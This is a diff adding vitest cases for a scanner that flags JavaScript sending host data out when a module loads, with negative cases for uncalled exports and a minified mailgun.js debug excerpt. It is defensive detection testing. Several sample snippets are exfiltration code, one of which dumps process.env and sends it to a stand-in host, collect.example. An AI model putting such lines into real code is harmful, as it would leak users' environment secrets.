@@ -2,6 +2,7 @@
  * The code an entry module runs when it is loaded (src/checks/lib/load-code.ts): what runs is
  * judged, what a user calls later is not. Snippets written for these tests.
  */
+import { readFileSync } from 'node:fs';
 import { describe, expect, test } from 'vitest';
 import { loadTimeText, readLoadJavaScript } from '../../src/checks/lib/load-code.js';
 
@@ -135,6 +136,10 @@ describe('readLoadJavaScript: the ways code is run at load', () => {
     ["host data sent as the alternative of a conditional whose other branch is an arrow (the arrow's body ends at the `:`)", `${HEAD}module.exports = process.env.CI ? () => null : ${SEND_EXPRESSION};`],
     ['host data sent as the alternative of a conditional whose other branch is an async arrow with a conditional of its own', `${HEAD}const x = process.env.CI ? async (a) => (a ? 1 : 2) : ${SEND_EXPRESSION};`],
     ['host data sent after an arrow whose expression uses ?? and ?. beside a conditional', `${HEAD}const pick = process.env.A ? (o) => o?.a ?? o?.[0] : ${SEND_EXPRESSION};`],
+    ['host data sent from a callback wrapped in parentheses, handed to forEach (minified)', `${HEAD}[1].forEach(((e) => { ${HOST_DATA_SEND} }));`],
+    ['host data sent from an arrow with an expression body wrapped in parentheses, handed to map (minified)', `${HEAD}[1].map((e => ${SEND_EXPRESSION}));`],
+    ['host data sent from a callback handed to find', `${HEAD}[1].find((e) => { ${HOST_DATA_SEND} });`],
+    ['the environment dumped from a callback wrapped in parentheses, handed to filter, and sent', "const https = require('https');\nconst k = [1].filter((e => JSON.stringify(process.env)));\nhttps.get('https://collect.example/?k=' + k);"],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
   });
@@ -202,7 +207,18 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ["an arrow whose expression body is a conditional of its own, exported, not called", `${HEAD}module.exports = () => (process.env.CI ? null : ${SEND_EXPRESSION});
 exports.other = () => process.env.CI ? null : ${SEND_EXPRESSION};`],
     ['an arrow whose expression body is a conditional holding another arrow, exported, not called', `${HEAD}module.exports = () => process.env.CI ? () => 1 : ${SEND_EXPRESSION};`],
+    ['a callback wrapped in parentheses handed to a call that keeps it (a function wrapped), exported', `${HEAD}module.exports = memoize(((e) => { ${HOST_DATA_SEND} }));`],
+    ['a callback wrapped in parentheses handed to filter inside a function nobody calls', `${HEAD}exports.later = function () { return [1].filter((e => ${SEND_EXPRESSION})); };`],
   ])('%s', (_name, code) => {
+    expect(readLoadJavaScript(code)).toEqual([]);
+  });
+
+  /** The debug package's Node half as mailgun.js 14.0.1 bundles it minified (fixtures/PROVENANCE.md): its wrapper `In()` is called by the bundle's other modules, left out of the cut. */
+  const mailgunDebug = readFileSync(new URL('../../fixtures/load-code/excerpts/mailgun.js@14.0.1/mailgun.node.js', import.meta.url), 'utf8');
+
+  test("the debug package's walk for its own DEBUG_ settings, minified (its filter's callback wrapped in parentheses), beside a request made at load (mailgun.js 14.0.1)", () => {
+    const code = `import o from"https";${mailgunDebug}In();o.get("https://api.example/v3");`;
+    expect(loadTimeText(code)).toContain('.filter((e=>/^debug_/i.test(e)))');
     expect(readLoadJavaScript(code)).toEqual([]);
   });
 });
